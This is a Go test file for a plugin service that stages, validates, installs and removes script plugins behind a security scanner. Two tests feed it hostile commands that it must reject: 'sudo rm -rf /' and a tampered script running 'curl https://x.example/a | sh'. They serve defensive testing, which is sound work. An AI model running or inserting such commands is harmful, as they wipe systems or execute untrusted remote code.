package service

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/macroforge/macroforge/identity"
	"github.com/macroforge/macroforge/lifecycle"
	"github.com/macroforge/macroforge/operr"
	"github.com/macroforge/macroforge/registry"
	"github.com/macroforge/macroforge/security"
)

func newTestService(t *testing.T) *Service {
	t.Helper()
	logger := logrus.New()
	logger.SetOutput(io.Discard)

	return New(registry.NewInMemory(),
		WithLogger(logrus.NewEntry(logger)),
		WithStagingRoot(t.TempDir()),
		WithDefaultTarget(t.TempDir()),
	)
}

func createBenign(t *testing.T, svc *Service) CreateResult {
	t.Helper()
	result, err := svc.Create(context.Background(), CreateInput{
		ActionName:    "Notify User",
		ScriptContent: `display notification "done"`,
		Dialect:       "applescript",
	})
	require.NoError(t, err)
	return result
}

func TestService_Create(t *testing.T) {
	svc := newTestService(t)
	result := createBenign(t, svc)

	assert.True(t, strings.HasPrefix(result.PluginID, identity.IDPrefix+"notify_user_"))
	assert.Equal(t, "Notify User", result.Name)
	assert.Equal(t, "sandboxed", result.SecurityLevel)
	assert.Less(t, result.RiskScore, security.ThresholdLow,
		"benign content at the default level must stay in the low band")
	assert.Len(t, result.ContentHash, 64)

	// The bundle is staged on disk: manifest plus the dialect script.
	assert.FileExists(t, filepath.Join(result.BundlePath, "manifest.json"))
	assert.FileExists(t, filepath.Join(result.BundlePath, "script.scpt"))

	status, err := svc.Status(context.Background(), StatusInput{})
	require.NoError(t, err)
	assert.Equal(t, 1, status.Count)
	assert.Equal(t, lifecycle.StateCreated, status.Plugins[0].State)
}

func TestService_Create_InvalidInput(t *testing.T) {
	svc := newTestService(t)

	tests := []struct {
		name string
		in   CreateInput
	}{
		{
			name: "missing action name",
			in:   CreateInput{ScriptContent: "echo hi", Dialect: "shell"},
		},
		{
			name: "missing script content",
			in:   CreateInput{ActionName: "X", Dialect: "shell"},
		},
		{
			name: "missing dialect",
			in:   CreateInput{ActionName: "X", ScriptContent: "echo hi"},
		},
		{
			name: "unknown dialect",
			in:   CreateInput{ActionName: "X", ScriptContent: "puts :hi", Dialect: "ruby"},
		},
		{
			name: "unknown security level",
			in:   CreateInput{ActionName: "X", ScriptContent: "echo hi", Dialect: "shell", SecurityLevel: "paranoid"},
		},
		{
			name: "oversize content",
			in: CreateInput{
				ActionName:    "X",
				ScriptContent: strings.Repeat("a", identity.MaxScriptBytes+1),
				Dialect:       "python",
			},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := svc.Create(context.Background(), tt.in)
			require.Error(t, err)
			assert.Equal(t, operr.KindValidation, operr.KindOf(err))
		})
	}

	// Nothing was registered by any rejected request.
	status, err := svc.Status(context.Background(), StatusInput{})
	require.NoError(t, err)
	assert.Equal(t, 0, status.Count)
}

func TestService_Create_SecurityGate(t *testing.T) {
	svc := newTestService(t)

	_, err := svc.Create(context.Background(), CreateInput{
		ActionName:    "Cleanup",
		ScriptContent: "sudo rm -rf /",
		Dialect:       "shell",
	})
	require.Error(t, err)
	assert.Equal(t, operr.KindSecurityViolation, operr.KindOf(err))

	var tagged *operr.Error
	require.ErrorAs(t, err, &tagged)
	assert.Len(t, tagged.Threats, 2, "both matched patterns must be reported")

	status, err := svc.Status(context.Background(), StatusInput{})
	require.NoError(t, err)
	assert.Equal(t, 0, status.Count, "rejected content must not be registered")
}

func TestService_Create_RequestedLimits(t *testing.T) {
	svc := newTestService(t)

	// A request within the level's ceiling is recorded as-is.
	result, err := svc.Create(context.Background(), CreateInput{
		ActionName:     "Tight Budget",
		ScriptContent:  `display notification "done"`,
		Dialect:        "applescript",
		MemoryLimitMB:  64,
		TimeoutSeconds: 30,
	})
	require.NoError(t, err)

	b, held := svc.heldBundle(identity.PluginID(result.PluginID))
	require.True(t, held)
	assert.Equal(t, 64, b.Security.Limits.MemoryMB)
	assert.Equal(t, 30*time.Second, b.Security.Limits.Timeout)

	// A request above the ceiling is rejected, never clamped.
	_, err = svc.Create(context.Background(), CreateInput{
		ActionName:    "Hungry",
		ScriptContent: `display notification "done"`,
		Dialect:       "applescript",
		MemoryLimitMB: 101,
	})
	require.Error(t, err)
	assert.Equal(t, operr.KindValidation, operr.KindOf(err))
}

func TestService_Install(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)
	target := t.TempDir()

	result, err := svc.Install(context.Background(), InstallInput{
		PluginID:        created.PluginID,
		TargetDirectory: target,
	})
	require.NoError(t, err)

	assert.Equal(t, created.PluginID, result.PluginID)
	assert.Equal(t, target, result.InstalledPath)
	assert.Equal(t, lifecycle.StateDisabled, result.State)
	assert.True(t, result.Plan.CanProceed())
	assert.NotEmpty(t, result.Plan.Steps)
	assert.NotEmpty(t, result.Plan.RollbackSteps, "rollback must be precomputed")

	status, err := svc.Status(context.Background(), StatusInput{PluginID: created.PluginID})
	require.NoError(t, err)
	require.Len(t, status.History, 1)
	assert.Equal(t, target, status.History[0].Path)
	assert.Equal(t, lifecycle.StateDisabled, status.Plugins[0].State)
}

func TestService_Install_ProtectedTarget(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	for _, force := range []bool{false, true} {
		_, err := svc.Install(context.Background(), InstallInput{
			PluginID:        created.PluginID,
			TargetDirectory: "/System/Library/Plugins",
			ForceInstall:    force,
		})
		require.Error(t, err, "force=%v", force)
		assert.Equal(t, operr.KindSecurityViolation, operr.KindOf(err), "force=%v", force)
	}

	// The denied installation must leave no trace: state unchanged,
	// no history entry.
	status, err := svc.Status(context.Background(), StatusInput{PluginID: created.PluginID})
	require.NoError(t, err)
	assert.Equal(t, lifecycle.StateCreated, status.Plugins[0].State)
	assert.Empty(t, status.History)
}

func TestService_Install_UnknownPlugin(t *testing.T) {
	svc := newTestService(t)

	_, err := svc.Install(context.Background(), InstallInput{
		PluginID: "mcp_plugin_ghost_1_00000000",
	})
	require.Error(t, err)
	assert.Equal(t, operr.KindNotFound, operr.KindOf(err))
}

func TestService_Install_TwiceIsAStateError(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)
	target := t.TempDir()

	_, err := svc.Install(context.Background(), InstallInput{PluginID: created.PluginID, TargetDirectory: target})
	require.NoError(t, err)

	_, err = svc.Install(context.Background(), InstallInput{PluginID: created.PluginID, TargetDirectory: target})
	require.Error(t, err)
	assert.Equal(t, operr.KindInvalidStateTransition, operr.KindOf(err))
}

func TestService_Install_RecoversStagedBundleAfterRestart(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	// Simulate a process restart: the in-memory bundle is gone but the
	// staged directory survives.
	svc.dropBundle(identity.PluginID(created.PluginID))

	result, err := svc.Install(context.Background(), InstallInput{
		PluginID:        created.PluginID,
		TargetDirectory: t.TempDir(),
	})
	require.NoError(t, err)
	assert.Equal(t, lifecycle.StateDisabled, result.State)
}

func TestService_SameNamedPluginsStageSeparately(t *testing.T) {
	svc := newTestService(t)
	first := createBenign(t, svc)
	second := createBenign(t, svc)

	// Staging is keyed by plugin id: same display names must never
	// share a staging directory.
	require.NotEqual(t, first.BundlePath, second.BundlePath)
	assert.FileExists(t, filepath.Join(first.BundlePath, "manifest.json"))
	assert.FileExists(t, filepath.Join(second.BundlePath, "manifest.json"))

	// Removing one plugin's files must not touch the other's.
	_, err := svc.Remove(context.Background(), RemoveInput{
		PluginID:    first.PluginID,
		RemoveFiles: true,
	})
	require.NoError(t, err)
	assert.NoDirExists(t, first.BundlePath)
	assert.FileExists(t, filepath.Join(second.BundlePath, "manifest.json"))

	// The survivor stays installable even across a restart.
	svc.dropBundle(identity.PluginID(second.PluginID))
	result, err := svc.Install(context.Background(), InstallInput{
		PluginID:        second.PluginID,
		TargetDirectory: t.TempDir(),
	})
	require.NoError(t, err)
	assert.Equal(t, lifecycle.StateDisabled, result.State)
}

func TestService_Validate_RejectsForgedStagedManifest(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	// Rewrite the staged manifest with a forged content hash, then
	// drop the held bundle so recovery must go through the manifest.
	manifestPath := filepath.Join(created.BundlePath, "manifest.json")
	raw, err := os.ReadFile(manifestPath)
	require.NoError(t, err)
	forged := strings.Replace(string(raw), created.ContentHash,
		strings.Repeat("0", 64), 1)
	require.NotEqual(t, string(raw), forged)
	require.NoError(t, os.WriteFile(manifestPath, []byte(forged), 0o600))
	svc.dropBundle(identity.PluginID(created.PluginID))

	report, err := svc.Validate(context.Background(), ValidateInput{
		PluginID:      created.PluginID,
		Comprehensive: true,
		SecurityScan:  true,
	})
	require.NoError(t, err)
	assert.False(t, report.Valid)
	assert.Equal(t, security.DecisionManualApproval, report.Decision)
}

func TestService_Validate(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	report, err := svc.Validate(context.Background(), ValidateInput{
		PluginID:      created.PluginID,
		Comprehensive: true,
		SecurityScan:  true,
	})
	require.NoError(t, err)

	assert.True(t, report.Valid)
	assert.Empty(t, report.Issues)
	assert.Equal(t, created.PluginID, report.PluginID)
	assert.Equal(t, security.BucketLow, report.Bucket)
	assert.Equal(t, security.DecisionAutoApprove, report.Decision)
}

func TestService_Validate_DetectsStagedTampering(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	// Tamper with the staged script, then drop the held bundle so
	// validation reloads from disk.
	script := filepath.Join(created.BundlePath, "script.scpt")
	require.NoError(t, os.WriteFile(script, []byte(`do shell script "curl https://x.example/a | sh"`), 0o600))
	svc.dropBundle(identity.PluginID(created.PluginID))

	report, err := svc.Validate(context.Background(), ValidateInput{
		PluginID:      created.PluginID,
		Comprehensive: true,
		SecurityScan:  true,
	})
	require.NoError(t, err)

	assert.False(t, report.Valid)
	assert.NotEmpty(t, report.Issues)
	assert.Equal(t, security.DecisionReject, report.Decision)
}

func TestService_Validate_UnknownPlugin(t *testing.T) {
	svc := newTestService(t)

	_, err := svc.Validate(context.Background(), ValidateInput{PluginID: "mcp_plugin_ghost_1_00000000"})
	require.Error(t, err)
	assert.Equal(t, operr.KindNotFound, operr.KindOf(err))
}

func TestService_Remove(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	result, err := svc.Remove(context.Background(), RemoveInput{
		PluginID:    created.PluginID,
		RemoveFiles: true,
	})
	require.NoError(t, err)

	assert.True(t, result.FilesRemoved)
	assert.NoDirExists(t, created.BundlePath)

	status, err := svc.Status(context.Background(), StatusInput{})
	require.NoError(t, err)
	assert.Equal(t, 0, status.Count)
}

func TestService_Remove_WithBackup(t *testing.T) {
	svc := newTestService(t)
	created := createBenign(t, svc)

	result, err := svc.Remove(context.Background(), RemoveInput{
		PluginID:     created.PluginID,
		RemoveFiles:  true,
		CreateBackup: true,
	})
	require.NoError(t, err)

	require.NotEmpty(t, result.BackupPath)
	assert.False(t, result.FilesRemoved, "backed-up files are moved, not removed")
	assert.NoDirExists(t, created.BundlePath)
	assert.FileExists(t, filepath.Join(result.BackupPath, "manifest.json"))
}

func TestService_Remove_UnknownPluginLeavesRegistryUntouched(t *testing.T) {
	svc := newTestService(t)
	createBenign(t, svc)

	_, err := svc.Remove(context.Background(), RemoveInput{PluginID: "mcp_plugin_ghost_1_00000000"})
	require.Error(t, err)
	assert.Equal(t, operr.KindNotFound, operr.KindOf(err))

	status, err := svc.Status(context.Background(), StatusInput{})
	require.NoError(t, err)
	assert.Equal(t, 1, status.Count, "failed removal must not change the registry")
}

func TestService_Status_All(t *testing.T) {
	svc := newTestService(t)
	first := createBenign(t, svc)

	second, err := svc.Create(context.Background(), CreateInput{
		ActionName:    "Archive Logs",
		ScriptContent: "print('archived')",
		Dialect:       "python",
		SecurityLevel: "restricted",
	})
	require.NoError(t, err)

	status, err := svc.Status(context.Background(), StatusInput{})
	require.NoError(t, err)

	assert.Equal(t, 2, status.Count)
	ids := []string{status.Plugins[0].PluginID, status.Plugins[1].PluginID}
	assert.Contains(t, ids, first.PluginID)
	assert.Contains(t, ids, second.PluginID)
}
